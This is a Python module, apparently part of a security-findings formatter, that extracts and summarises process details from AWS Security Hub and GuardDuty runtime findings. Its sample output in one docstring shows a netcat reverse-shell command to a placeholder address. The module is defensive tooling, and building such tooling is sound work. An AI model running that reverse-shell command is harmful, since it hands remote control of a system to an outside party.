"""Which process: ASFF's Process, and what GuardDuty's Runtime Monitoring says of one.

https://docs.aws.amazon.com/securityhub/1.0/APIReference/API_ProcessDetails.html,
https://docs.aws.amazon.com/guardduty/latest/APIReference/API_RuntimeDetails.html
"""

from __future__ import annotations

from formatter.finding.finding import Finding
from formatter.finding.safe import mapping
from formatter.messages.facts.look import Fact, each, first_told, joined, kept, listed, look, many, said, time, told
from formatter.messages.facts.product_fields import guardduty_service

_CONTEXT = (
    ("Command line", "commandLineExample"),
    ("Script", "scriptPath"),
    ("Library", "libraryPath"),
    ("File", "modifyingProcess/executablePath"),
    ("Module", "moduleFilePath"),
    ("Socket", "socketPath"),
    ("Service", "serviceName"),
    ("Tool", "toolName"),
    ("Tool category", "toolCategory"),
    ("Mount", "mountTarget"),
    ("Threat file", "threatFilePath"),
    ("Address family", "addressFamily"),
    ("Runc path", "runcBinaryPath"),
    ("Release agent", "releaseAgentPath"),
)
"""What the event of the process was about."""


def facts(finding: Finding) -> tuple[Fact, ...]:
    """Return what is known of the process."""
    process, context = _process(finding), look(guardduty_service(finding), "runtimeDetails/context")
    return (
        *kept(
            ("Process", joined(told(process, "name"), said("(pid ", told(process, "pid"), ")"))),
            ("Executable", first_told(process, "executablePath", "path")),
            ("SHA-256", told(process, "executableSha256")),
            ("Process user", joined(told(process, "user"), said("(id ", told(process, "userId"), ")"))),
            ("Working folder", told(process, "pwd")),
            ("Parent process", first_told(process, "parentPid", "parentUuid")),
            ("Process started", time(look(process, "launchedAt") or look(process, "startTime"))),
            ("Process ended", time(look(process, "terminatedAt"))),
            *((label, told(context, name)) for label, name in _CONTEXT),
        ),
        *many("Target process", [_ancestor(look(context, "targetProcess"))]),
        *many("Started by", map(_ancestor, each(process, "lineage"))),
    )


def line(finding: Finding) -> str:
    """Return `/tmp/.x/nc (pid 4242) as www-data, started by bash: nc -e sh 203.0.113.9`."""
    process = _process(finding)
    command = told(look(guardduty_service(finding), "runtimeDetails/context"), "commandLineExample")
    what = first_told(process, "executablePath", "path", "name")
    started_by = listed((told(one, "name") for one in each(process, "lineage")), 2)
    who = joined(what, said("(pid ", told(process, "pid"), ")"), said("as ", told(process, "user")))
    return joined(joined(who, said("started by ", started_by), by=", "), command, by=": ")


def _process(finding: Finding) -> object:
    return mapping(look(guardduty_service(finding), "runtimeDetails/process")) or mapping(finding.raw.get("Process"))


def _ancestor(process: object) -> str:
    return joined(first_told(process, "executablePath", "name"), said("(pid ", told(process, "pid"), ")"))
